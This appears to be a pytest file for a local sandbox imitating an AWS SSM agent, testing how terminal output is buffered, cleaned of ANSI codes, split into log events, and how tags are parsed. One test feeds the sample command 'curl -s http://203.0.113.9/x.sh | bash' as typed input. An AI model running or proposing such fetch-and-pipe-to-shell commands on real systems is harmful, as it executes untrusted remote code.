"""The sandbox's stand-in for the SSM agent: which terminal output is streamed, and how."""

from __future__ import annotations

import pytest

from ssm_warden_local.sandbox import AgentBuffer, agent_line, log_events, parse_tags


def test_only_complete_lines_are_streamed_and_the_prompt_waits_for_its_command() -> None:
    # Given terminal output that ends with a prompt the user has not typed after yet
    buffer = AgentBuffer()
    buffer.feed("hello\r\n[ssm-user@sandbox ~]$ ")
    # When the agent takes what it may send
    first = buffer.complete_lines()
    # Then only the complete line goes, and the prompt goes with the command typed after it
    assert first == ["hello"]
    buffer.feed("curl -s http://203.0.113.9/x.sh | bash\r\n")
    assert buffer.complete_lines() == ["[ssm-user@sandbox ~]$ curl -s http://203.0.113.9/x.sh | bash"]
    assert buffer.complete_lines() == []


def test_a_session_that_ends_sends_its_unfinished_last_line_too() -> None:
    buffer = AgentBuffer()
    buffer.feed("done\r\n[ssm-user@sandbox ~]$ exi")
    assert buffer.flush_all() == ["done", "[ssm-user@sandbox ~]$ exi"]
    assert buffer.size == 0


def test_ansi_codes_and_carriage_returns_are_removed_and_tabs_become_spaces() -> None:
    # Colours, bracketed-paste markers and a window title, as a shell with TERM=xterm prints them
    raw = "\x1b]0;ssm-user@sandbox\x07\x1b[?2004h\x1b[01;32mok\x1b[0m\tdone\r"
    assert agent_line(raw) == "ok done"


def test_lines_are_cut_into_log_events_under_the_size_limit() -> None:
    # Given more output than one log event holds
    lines = ["x" * 40] * 10
    # When it is cut at 100 bytes an event
    events = list(log_events(lines, limit=100))
    # Then no event is over the limit, and nothing is lost or reordered
    assert all(sum(len(line) + 1 for line in event) <= 100 for event in events)
    assert [line for event in events for line in event] == lines


def test_tags_are_key_value_pairs() -> None:
    assert parse_tags(["Environment=prod", "Team=db=main"]) == {"Environment": "prod", "Team": "db=main"}
    with pytest.raises(ValueError, match="KEY=VALUE"):
        parse_tags(["Environment"])
